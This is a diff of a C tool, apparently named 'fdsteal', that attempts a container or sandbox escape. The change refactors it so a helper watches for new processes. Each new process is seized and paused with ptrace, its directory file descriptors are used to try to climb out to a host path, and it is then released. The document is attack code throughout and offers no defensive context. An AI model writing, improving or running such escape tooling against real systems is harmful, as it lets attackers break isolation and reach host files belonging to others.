@@ -13,6 +13,7 @@
  */
 #define _GNU_SOURCE
 #include "escape.h"
+#include "newpids.h"
 
 #include <dirent.h>
 #include <errno.h>
@@ -22,19 +23,6 @@
 #include <string.h>
 #include <sys/ptrace.h>
 #include <sys/wait.h>
-
-#define MAX_PID 4194304
-
-static unsigned char seen[MAX_PID / 8 + 1];
-
-static bool first_sight(int pid)
-{
-        if (pid <= 0 || pid >= MAX_PID)
-                return false;
-        bool old = seen[pid / 8] & (1u << (pid % 8));
-        seen[pid / 8] |= (unsigned char)(1u << (pid % 8));
-        return !old;
-}
 
 /* Every directory among pid's fds: try to climb out of it. */
 static int try_fds(int pid, const char *host_path)
@@ -66,6 +54,21 @@ static int try_fds(int pid, const char *host_path)
         return hits;
 }
 
+/* Stop pid at once, look through its fds, let it go. */
+static void seize(int pid, void *host_path)
+{
+        bool traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+        if (traced) {
+                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+                waitpid(pid, NULL, __WALL);
+        }
+        if (!traced)
+                printf("pid %d: cannot seize: %s\n", pid, strerror(errno));
+        try_fds(pid, host_path);
+        if (traced)
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
 int main(int argc, char **argv)
 {
         setvbuf(stdout, NULL, _IOLBF, 0);
@@ -73,35 +76,5 @@ int main(int argc, char **argv)
                 fprintf(stderr, "usage: fdsteal HOSTFILE\n");
                 return 2;
         }
-        int self = getpid();
-        /* What runs already is not what we are after. */
-        DIR *d = opendir("/proc");
-        struct dirent *e;
-        while (d && (e = readdir(d)) != NULL)
-                first_sight(atoi(e->d_name));
-        if (d)
-                closedir(d);
-        first_sight(self);
-        printf("watching\n");
-        for (;;) {
-                d = opendir("/proc");
-                if (d == NULL)
-                        return 1;
-                while ((e = readdir(d)) != NULL) {
-                        int pid = atoi(e->d_name);
-                        if (!first_sight(pid))
-                                continue;
-                        bool traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
-                        if (traced) {
-                                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
-                                waitpid(pid, NULL, __WALL);
-                        }
-                        if (!traced)
-                                printf("pid %d: cannot seize: %s\n", pid, strerror(errno));
-                        try_fds(pid, argv[1]);
-                        if (traced)
-                                ptrace(PTRACE_DETACH, pid, 0, 0);
-                }
-                closedir(d);
-        }
+        return watch_new_pids(seize, argv[1]);
 }
